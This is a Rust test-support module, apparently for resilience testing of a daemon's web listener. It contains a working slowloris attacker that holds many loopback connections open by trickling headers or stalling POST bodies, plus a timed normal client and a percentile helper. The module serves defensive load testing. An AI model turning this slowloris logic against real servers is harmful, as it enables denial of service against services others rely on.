//! A slowloris attacker against the daemon's web listener, and an ordinary client that times its
//! requests. The attacker holds connections from several loopback addresses (all of 127/8 is
//! loopback on Linux), trickling header lines or stalling a body, and re-opens each one the
//! daemon closes, recording how long it lived.

use socket2::{Domain, Socket, Type};
use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

const TICK: Duration = Duration::from_millis(500);

/// A TCP connection to `to` from the loopback address `from`.
pub fn connect_from(from: Ipv4Addr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SocketAddrV4::new(from, 0).into())?;
    socket.connect_timeout(&to.into(), Duration::from_secs(2))?;
    Ok(socket.into())
}

/// The attack: stopped (and its threads joined) on drop.
pub struct Slowloris {
    stop: Arc<AtomicBool>,
    open: Arc<AtomicUsize>,
    lifetimes: Arc<Mutex<Vec<Duration>>>,
    threads: Vec<JoinHandle<()>>,
}

impl Slowloris {
    /// `per_source` connections from each of `sources` addresses, 127.0.0.10 onwards; every
    /// fourth one sends a complete head and then stalls its body, the others trickle headers.
    pub fn start(to: SocketAddr, sources: u8, per_source: usize) -> Slowloris {
        let stop = Arc::new(AtomicBool::new(false));
        let open = Arc::new(AtomicUsize::new(0));
        let lifetimes = Arc::new(Mutex::new(Vec::new()));
        let threads = (0..sources)
            .map(|i| {
                let from = Ipv4Addr::new(127, 0, 0, 10 + i);
                let (stop, open, lifetimes) = (stop.clone(), open.clone(), lifetimes.clone());
                std::thread::spawn(move || {
                    attack_from(from, to, per_source, &stop, &open, &lifetimes)
                })
            })
            .collect();
        Slowloris {
            stop,
            open,
            lifetimes,
            threads,
        }
    }

    /// Connections currently open from the attacker's side.
    pub fn open(&self) -> usize {
        self.open.load(Ordering::Relaxed)
    }

    /// How long each connection the daemon closed had lived.
    pub fn lifetimes(&self) -> Vec<Duration> {
        self.lifetimes.lock().map(|l| l.clone()).unwrap_or_default()
    }
}

impl Drop for Slowloris {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

struct Held {
    stream: TcpStream,
    opened: Instant,
}

fn attack_from(
    from: Ipv4Addr,
    to: SocketAddr,
    count: usize,
    stop: &AtomicBool,
    open: &AtomicUsize,
    lifetimes: &Mutex<Vec<Duration>>,
) {
    let mut held: Vec<Option<Held>> = (0..count).map(|_| None).collect();
    while !stop.load(Ordering::Relaxed) {
        for (i, slot) in held.iter_mut().enumerate() {
            let stalls_body = i % 4 == 3;
            match slot {
                Some(h) if is_closed(&h.stream) || !trickle(&h.stream, stalls_body) => {
                    if let Ok(mut l) = lifetimes.lock() {
                        l.push(h.opened.elapsed());
                    }
                    *slot = None;
                    open.fetch_sub(1, Ordering::Relaxed);
                }
                Some(_) => {}
                None => {
                    if let Some(h) = open_one(from, to, stalls_body) {
                        *slot = Some(h);
                        open.fetch_add(1, Ordering::Relaxed);
                    }
                }
            }
        }
        std::thread::sleep(TICK);
    }
}

fn open_one(from: Ipv4Addr, to: SocketAddr, stalls_body: bool) -> Option<Held> {
    let mut stream = connect_from(from, to).ok()?;
    let head = if stalls_body {
        "POST /push/stalled HTTP/1.1\r\nHost: mfa\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\na"
    } else {
        "GET /push/trickled HTTP/1.1\r\nHost: mfa\r\n"
    };
    stream.write_all(head.as_bytes()).ok()?;
    stream.set_nonblocking(true).ok()?;
    Some(Held {
        stream,
        opened: Instant::now(),
    })
}

/// One more header line, or one more body byte; false when the write fails.
fn trickle(mut stream: &TcpStream, stalls_body: bool) -> bool {
    let more: &[u8] = if stalls_body { b"a" } else { b"X-Slow: 1\r\n" };
    stream.write_all(more).is_ok()
}

/// Whether the daemon closed it (or answered it, which ends the attack on that connection).
fn is_closed(mut stream: &TcpStream) -> bool {
    let mut buf = [0u8; 512];
    match stream.read(&mut buf) {
        // Zero bytes is the end; any bytes are an answer: either way the attack is over.
        Ok(_n) => true,
        Err(e) => e.kind() != ErrorKind::WouldBlock,
    }
}

/// An ordinary request from 127.0.0.1 (the whole request at once): its status and how long the
/// answer took, or None when the connection was dropped or nothing came within 15 s.
pub fn timed_request(
    to: SocketAddr,
    method: &str,
    path: &str,
    body: &str,
) -> Option<(u16, Duration)> {
    let started = Instant::now();
    let mut stream = connect_from(Ipv4Addr::LOCALHOST, to).ok()?;
    stream
        .set_read_timeout(Some(Duration::from_secs(15)))
        .ok()?;
    let request = format!(
        "{method} {path} HTTP/1.1\r\nHost: {to}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\
         Connection: close\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(request.as_bytes()).ok()?;
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    let status = String::from_utf8_lossy(&raw)
        .lines()
        .next()?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()?;
    Some((status, started.elapsed()))
}

/// The `p`th percentile (0–100) of `values`, nearest rank.
pub fn percentile(values: &[Duration], p: usize) -> Duration {
    let mut sorted = values.to_vec();
    sorted.sort();
    let rank = (p * sorted.len()).div_ceil(100).max(1);
    sorted.get(rank - 1).copied().unwrap_or_default()
}
